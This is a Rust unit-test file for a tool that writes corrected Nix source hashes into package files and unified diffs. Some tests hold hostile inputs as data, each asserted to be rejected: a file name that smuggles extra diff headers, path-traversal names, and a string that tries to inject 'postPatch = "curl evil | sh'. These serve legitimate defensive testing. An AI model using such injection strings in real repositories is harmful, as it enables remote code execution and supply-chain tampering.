//! Unit tests of `lib.rs`: planning, applying and writing hash fixes.
use super::*;
use nixfarm_nix::StorePath;
use nixfarm_nix::hash::Sri;

const FAKE: &str = "sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=";
const GOT1: &str = "sha256-61WeR6/hoYwd5GsHVR2+sgD/QcMTsCKiZHJ7o8yKEbQ=";
const GOT2: &str = "sha256-jw7+guB6otkQxOFby0tTP00dfpRRmo/Vo7hZ5rmsG8E=";

fn mm(name: &str, hints: &[&str], got: &str) -> Mismatch {
    Mismatch {
        fod_drv: StorePath::parse_drv(&format!("/nix/store/{}-{name}.drv", "b".repeat(32)))
            .unwrap(),
        hints: hints.iter().map(|s| s.to_string()).collect(),
        specified: Sri::parse(FAKE).unwrap(),
        got: Sri::parse(got).unwrap(),
    }
}

fn tree() -> Tree {
    let mut t = Tree::new();
    t.insert(
        "pkgs/a.nix".into(),
        "{ fetchSrc, lib }:\n# keep   this   spacing\nfetchSrc {\n  rev = \"0123456789abcdef\";\n  hash = lib.fakeHash;\n}".into(),
    );
    t.insert(
        "pkgs/b.nix".into(),
        "{ fetchSrc, lib }:\nfetchSrc {\n  rev = \"fedcba9876543210\";\n  hash = lib.fakeHash;\n}\n".into(),
    );
    t.insert(
        "pkgs/ok.nix".into(),
        "{ }: { hash = \"sha256-x\"; }\n".into(),
    );
    t
}

#[test]
fn same_fake_value_in_many_files_each_gets_its_own_hash() {
    let t = tree();
    let plan = plan(
        &t,
        &[
            PackageMismatches {
                attr: "a".into(),
                own_file: Some("pkgs/a.nix".into()),
                mismatches: vec![mm("source", &["0123456789abcdef"], GOT1)],
            },
            PackageMismatches {
                attr: "b".into(),
                own_file: Some("pkgs/b.nix".into()),
                mismatches: vec![mm("source", &["fedcba9876543210"], GOT2)],
            },
        ],
    );
    assert!(plan.unlocated.is_empty(), "{:?}", plan.unlocated);
    let edited = apply(&t, plan.fixes.values().flatten()).unwrap();
    assert_eq!(edited.len(), 2);
    assert!(edited["pkgs/a.nix"].contains(&format!("hash = \"{GOT1}\";")));
    assert!(edited["pkgs/b.nix"].contains(&format!("hash = \"{GOT2}\";")));
    // Byte for byte elsewhere.
    assert_eq!(
        edited["pkgs/a.nix"].replace(&format!("\"{GOT1}\""), "lib.fakeHash"),
        t["pkgs/a.nix"]
    );
    let patch = unified_diff(&t, &edited);
    assert!(patch.contains("--- a/pkgs/a.nix\n+++ b/pkgs/a.nix\n"));
    assert!(patch.contains("\\ No newline at end of file"));
    assert!(!patch.contains("ok.nix"));
}

#[test]
fn a_shared_source_is_found_outside_the_package_file_only_with_corroboration() {
    let t = tree();
    let with_rev = plan(
        &t,
        &[PackageMismatches {
            attr: "user".into(),
            own_file: Some("pkgs/ok.nix".into()),
            mismatches: vec![mm("source", &["fedcba9876543210"], GOT2)],
        }],
    );
    assert_eq!(with_rev.fixes["user"][0].file, "pkgs/b.nix");
    let without = plan(
        &t,
        &[PackageMismatches {
            attr: "user".into(),
            own_file: Some("pkgs/ok.nix".into()),
            mismatches: vec![mm("source", &[], GOT2)],
        }],
    );
    assert!(without.fixes.is_empty());
    assert_eq!(without.unlocated.len(), 1);
}

#[test]
fn a_changed_file_is_refused_whole() {
    let t = tree();
    let p = plan(
        &t,
        &[PackageMismatches {
            attr: "a".into(),
            own_file: Some("pkgs/a.nix".into()),
            mismatches: vec![mm("source", &[], GOT1)],
        }],
    );
    let mut changed = t.clone();
    changed.insert(
        "pkgs/a.nix".into(),
        t["pkgs/a.nix"].replace("  hash", "hash"),
    );
    assert!(matches!(
        apply(&changed, p.fixes.values().flatten()),
        Err(FixError::Changed { .. })
    ));
}

#[test]
fn a_file_whose_name_a_patch_cannot_carry_gets_no_edit() {
    let mut t = tree();
    // A newline in a name would start a diff section of its own, for another file.
    let name = "x\tb/x\n--- a/pkgs/b.nix\n+++ b/pkgs/b.nix\n@@ -1 +1 @@\n.nix";
    t.insert(name.into(), t["pkgs/a.nix"].clone());
    let p = plan(
        &t,
        &[PackageMismatches {
            attr: "evil".into(),
            own_file: Some(name.into()),
            mismatches: vec![mm("source", &[], GOT1)],
        }],
    );
    assert!(
        p.fixes.values().flatten().all(|f| patchable(&f.file)),
        "{:?}",
        p.fixes
    );
    assert!(!p.unlocated.is_empty() || p.fixes.values().flatten().all(|f| f.file != name));
    for bad in [
        "../x.nix",
        "/etc/x.nix",
        "a//b.nix",
        "a\"b.nix",
        "a\\b.nix",
        "a\nb.nix",
    ] {
        assert!(!patchable(bad), "{bad:?}");
    }
    assert!(patchable("pkgs/a-b_c.d/default.nix"));
}

#[test]
fn nothing_but_a_hash_is_written() {
    let t = tree();
    let p = plan(
        &t,
        &[PackageMismatches {
            attr: "a".into(),
            own_file: Some("pkgs/a.nix".into()),
            mismatches: vec![mm("source", &[], GOT1)],
        }],
    );
    let fixes: Vec<Fix> = p.fixes.values().flatten().cloned().collect();
    assert!(apply(&t, &fixes).is_ok());
    // What a fix writes is an SRI hash; text that would end the string is none.
    assert!(Sri::parse(&format!("{GOT1}\"; postPatch = \"curl evil | sh")).is_err());
}

#[test]
fn without_a_position_the_file_naming_the_derivation_wins() {
    let fake = "sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=";
    let pkg = |name: &str| {
        format!(
            "{{ mkPackage, denoDeps, lib }}:\nmkPackage {{\n  pname = \"{name}\";\n  deps = [ (denoDeps {{ outputHash = lib.fakeHash; }}) ];\n}}\n"
        )
    };
    let mut t: Tree = [
        ("pkgs/mypkg.nix".to_string(), pkg("mypkg")),
        ("pkgs/other.nix".to_string(), pkg("other")),
        (
            "lib/deno.nix".to_string(),
            "{ pname, outputHash }: derivation { name = \"${pname}-deno-deps\"; inherit outputHash; }\n".to_string(),
        ),
    ]
    .into();
    let broken = PackageMismatches {
        attr: "mypkg".into(),
        own_file: None,
        mismatches: vec![Mismatch {
            fod_drv: StorePath::parse_drv(&format!(
                "/nix/store/{}-mypkg-deno-deps.drv",
                "b".repeat(32)
            ))
            .unwrap(),
            hints: vec!["mypkg-deno-deps".into()],
            specified: Sri::parse(fake).unwrap(),
            got: Sri::parse("sha256-61WeR6/hoYwd5GsHVR2+sgD/QcMTsCKiZHJ7o8yKEbQ=").unwrap(),
        }],
    };
    let p = plan(&t, std::slice::from_ref(&broken));
    assert!(p.unlocated.is_empty(), "{:?}", p.unlocated);
    let f = &p.fixes["mypkg"][0];
    assert_eq!(
        (f.file.as_str(), f.line, f.attribute.as_str()),
        ("pkgs/mypkg.nix", 4, "outputHash")
    );
    // Two files that both name it: a tie, not a guess.
    t.insert("pkgs/mypkg-too.nix".into(), pkg("mypkg"));
    let p = plan(&t, &[broken]);
    assert!(p.fixes.is_empty());
    assert!(
        p.unlocated[0].why.contains("nothing tells which one"),
        "{}",
        p.unlocated[0].why
    );
}

#[test]
fn positions_map_back_to_the_checkout() {
    let t = tree();
    assert_eq!(
        relative_position("pkgs/a.nix:5", &t).as_deref(),
        Some("pkgs/a.nix")
    );
    assert_eq!(relative_position("pkgs/nope.nix:5", &t), None);
    // Absolute: another input's file (agents make the repository's own relative), even
    // where the repository has a file of the same name.
    for other in [
        "/nix/store/0123456789abcdfghijklmnpqrsvwxyz-source/pkgs/a.nix:5",
        "/home/me/repo/pkgs/b.nix:3",
        "/nix/store/x-nixpkgs/lib.nix:1",
    ] {
        assert_eq!(relative_position(other, &t), None, "{other}");
    }
}

/// A package overriding a nixpkgs package has nixpkgs' position (absolute, in another
/// input). Its hash is written where its own source is pinned (`overlays/p.nix`, by the
/// shared rev), never into a repository file that only shares the position's file name (a
/// root `default.nix` holding another package's placeholder).
#[test]
fn another_inputs_position_never_picks_a_repository_file_of_the_same_name() {
    let mut t = Tree::new();
    t.insert(
        "default.nix".into(),
        "{ fetchSrc, lib }:\n{\n  q = fetchSrc {\n    rev = \"aaaabbbbccccdddd\";\n    hash = lib.fakeHash;\n  };\n}\n".into(),
    );
    t.insert(
        "overlays/p.nix".into(),
        "{ fetchSrc, lib }:\nfetchSrc {\n  rev = \"0123456789abcdef\";\n  hash = lib.fakeHash;\n}\n"
            .into(),
    );
    let position = "/nix/store/0123456789abcdfghijklmnpqrsvwxyz-source/pkgs/tools/p/default.nix:20";
    let own_file = relative_position(position, &t);
    assert_eq!(own_file, None);
    let plan = plan(
        &t,
        &[PackageMismatches {
            attr: "p".into(),
            own_file,
            mismatches: vec![mm("source", &["0123456789abcdef"], GOT1)],
        }],
    );
    assert!(plan.unlocated.is_empty(), "{:?}", plan.unlocated);
    assert_eq!(plan.fixes["p"].len(), 1);
    assert_eq!(plan.fixes["p"][0].file, "overlays/p.nix");
}

/// A tree with a file of thousands of bindings (a lock-like generated file) and hundreds of
/// mismatches to place: each file is read for bindings once per plan, not once per mismatch.
#[test]
fn a_plan_reads_each_file_once_however_many_mismatches() {
    let mut t = tree();
    let mut big = String::from("{ lib }:\n{\n");
    for i in 0..6000 {
        big.push_str(&format!(
            "  d{i} = {{ url = \"https://registry.example/d{i}.tgz\"; hash = \"sha256-{}\"; }};\n",
            "B".repeat(43) + "="
        ));
    }
    big.push_str("}\n");
    t.insert("generated/deps.nix".into(), big);
    let packages: Vec<PackageMismatches> = (0..300)
        .map(|i| PackageMismatches {
            attr: format!("p{i}"),
            own_file: None,
            mismatches: vec![mm(&format!("p{i}-source"), &[], GOT1)],
        })
        .collect();
    let started = std::time::Instant::now();
    let plan = plan(&t, &packages);
    // Two files bind lib.fakeHash and nothing tells which: every one is left unlocated.
    assert_eq!(plan.unlocated.len(), 300);
    // Read once, this is well under a second; read per mismatch, it took tens of seconds.
    assert!(
        started.elapsed() < std::time::Duration::from_secs(5),
        "{:?}",
        started.elapsed()
    );
}

/// One binding, in a function that makes several fetches, gives them all one hash: with
/// different contents, no single value fixes them, so none is written there (a fix for one
/// of them would only move the others' mismatch), and each package says why.
#[test]
fn a_hash_binding_shared_by_fetches_of_different_contents_is_not_filled_in() {
    let mut t = Tree::new();
    t.insert(
        "flake.nix".into(),
        "{ outputs = { self }: let\n  mk = n: fetchSrc { owner = \"o\"; repo = n; hash = lib.fakeHash; };\nin { a = mk \"a\"; b = mk \"b\"; }; }\n".into(),
    );
    let planned = plan_two(&t, GOT1, GOT2);
    assert!(planned.fixes.is_empty(), "{:?}", planned.fixes);
    assert_eq!(planned.unlocated.len(), 2);
    for u in &planned.unlocated {
        assert!(
            u.why.contains(
                "flake.nix:2 (hash = lib.fakeHash) is the hash of 2 fetches with different contents"
            ),
            "{}",
            u.why
        );
    }
    // The same content twice: one value fits both, and is written.
    let same = plan_two(&t, GOT1, GOT1);
    assert!(same.unlocated.is_empty(), "{:?}", same.unlocated);
    assert_eq!(same.fixes.len(), 2);

    /// Packages a and b of flake.nix, each with a fetch of its own that got `a` and `b`.
    fn plan_two(t: &Tree, a: &str, b: &str) -> Plan {
        let fetch = |c: char, got: &str| Mismatch {
            fod_drv: StorePath::parse_drv(&format!(
                "/nix/store/{}-source.drv",
                c.to_string().repeat(32)
            ))
            .unwrap(),
            hints: vec!["o".into()],
            specified: Sri::parse(FAKE).unwrap(),
            got: Sri::parse(got).unwrap(),
        };
        let package = |attr: &str, m: Mismatch| PackageMismatches {
            attr: attr.into(),
            own_file: Some("flake.nix".into()),
            mismatches: vec![m],
        };
        plan(
            t,
            &[package("a", fetch('c', a)), package("b", fetch('d', b))],
        )
    }
}

/// A stale hash kept under a name the fixer does not take for a hash (`src = "sha256-…"`,
/// a per-platform set): nothing is edited, and the message says where the value is.
#[test]
fn a_hash_written_where_no_binding_is_taken_is_named_by_its_place() {
    let mut t = Tree::new();
    t.insert(
        "pkgs/hashes.nix".into(),
        format!(
            "{{\n  rev = \"2d8ba804c79141991b71b2a9513e56817c9de8de\";\n  src = \"{GOT1}\";\n}}\n"
        ),
    );
    let m = Mismatch {
        fod_drv: StorePath::parse_drv(&format!("/nix/store/{}-source.drv", "c".repeat(32)))
            .unwrap(),
        hints: vec!["2d8ba804c79141991b71b2a9513e56817c9de8de".into()],
        specified: Sri::parse(GOT1).unwrap(),
        got: Sri::parse(GOT2).unwrap(),
    };
    let planned = plan(
        &t,
        &[PackageMismatches {
            attr: "a".into(),
            own_file: None,
            mismatches: vec![m],
        }],
    );
    assert!(planned.fixes.is_empty());
    assert!(
        planned.unlocated[0].why.starts_with(&format!(
            "pkgs/hashes.nix:3 holds the value {GOT1}, but not as a hash binding"
        )),
        "{}",
        planned.unlocated[0].why
    );
}
